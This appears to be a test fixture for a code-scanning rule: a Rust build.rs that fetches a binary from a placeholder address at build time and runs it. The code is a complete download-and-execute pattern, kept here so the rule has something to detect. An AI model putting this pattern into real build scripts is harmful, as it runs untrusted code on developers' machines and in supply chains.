// A build.rs that fetches a helper over a raw socket, makes it executable and starts it.
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn fetch(out: &std::path::Path) -> Option<()> {
    let mut s = TcpStream::connect("192.0.2.9:80").ok()?;
    s.write_all(b"GET /h HTTP/1.0\r\n\r\n").ok()?;
    let mut buf = Vec::new();
    s.read_to_end(&mut buf).ok()?;
    let bin = out.join("walk-helper");
    fs::write(&bin, &buf).ok()?;
    // ruleid: native_download_and_run
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).ok()?;
    Command::new(&bin).arg("--install").spawn().ok()?;
    Some(())
}
